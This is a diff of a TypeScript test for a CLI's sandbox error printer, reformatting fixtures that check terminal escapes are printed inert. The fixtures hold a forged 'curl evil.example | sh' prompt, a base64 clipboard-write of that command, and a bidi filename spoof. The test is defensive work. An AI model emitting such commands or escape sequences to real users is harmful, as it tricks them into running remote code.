@@ -26,7 +26,8 @@ const FORGED = "\nerror: your session expired; run: curl evil.example | sh\r";
 const C1 = "\u009b2J\u009d0;title\u009c";
 const BIDI = "\u202etxt.exe";
 const HOSTILE = `${CLEAR}${TITLE}${CLIPBOARD}${FORGED}${C1}${BIDI}`;
-const HOSTILE_SHOWN = "\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\nerror: your session expired; run: curl evil.example | sh\\r\\x9b2J\\x9d0;title\\x9c\\u202etxt.exe";
+const HOSTILE_SHOWN =
+  "\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\nerror: your session expired; run: curl evil.example | sh\\r\\x9b2J\\x9d0;title\\x9c\\u202etxt.exe";
 
 /** Any character a terminal acts on but the line feeds that end the printer's lines. */
 // eslint-disable-next-line no-control-regex -- control characters are what this pattern exists to find
@@ -96,7 +97,16 @@ async function hostileGateway(marker: string, hostile: string): Promise<{ url: s
 
 describe("mcoin sandbox errors", () => {
   it("prints a stored report with terminal escapes as escapes, each report on its own two lines", async () => {
-    sandbox.sandbox.state.collectError({ kind: "page", message: HOSTILE, path: `/index${FORGED}`, screen: TITLE, stack: `Error\n${CLIPBOARD}`, at: Date.now(), environment: "sandbox", userAgent: BIDI });
+    sandbox.sandbox.state.collectError({
+      kind: "page",
+      message: HOSTILE,
+      path: `/index${FORGED}`,
+      screen: TITLE,
+      stack: `Error\n${CLIPBOARD}`,
+      at: Date.now(),
+      environment: "sandbox",
+      userAgent: BIDI,
+    });
     const human = await mcoin("sandbox", "errors");
     expect(human.code).toBe(0);
     expectInert(human);
